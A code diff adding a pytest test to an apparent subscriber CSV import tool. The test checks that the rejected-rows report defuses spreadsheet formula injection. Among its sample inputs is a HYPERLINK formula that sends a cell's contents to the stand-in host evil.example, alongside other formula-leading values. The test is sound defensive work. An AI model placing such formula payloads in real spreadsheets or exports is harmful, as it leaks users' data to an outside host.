@@ -3,6 +3,8 @@ suppression respected, a dry run that changes nothing, and a stop part-way said 
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
@@ -155,3 +157,18 @@ def test_cli_dry_run_import_and_export(run, tmp_path: Path) -> None:  # type: ig
     assert len(lines) == 2 and lines[1].startswith("luca.bianchi@example.it,,active,import,")
     text = run("subscribers", "import", str(DATA / "empty.csv"), ok=False)
     assert text.returncode == 1 and "the file is empty" in text.stderr
+
+
+def test_the_rejected_rows_csv_neutralises_formulas(sessions: sessionmaker[Session], tmp_path: Path) -> None:
+    # OWASP CSV injection: the editor opens this file in a spreadsheet; its text is the file author's.
+    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"Click me")', "+1+1", "-2+3", "@SUM(1,2)"]
+    path = write(tmp_path, "email,name\nana@example.org,Ana\n" + "".join(f'"{e.replace(chr(34), chr(34) * 2)}",x\n'
+                                                                        for e in evil))
+    out = io.StringIO(newline="")
+    report = import_csv(sessions, path, confirmed=True, rejected_out=out)
+    assert report.rejected_total == len(evil)
+    header, *rows = list(csv.reader(io.StringIO(out.getvalue())))
+    assert header == ["row", "email", "reason"]
+    assert [row[1] for row in rows] == ["'" + e for e in evil]  # shown as the text it was
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
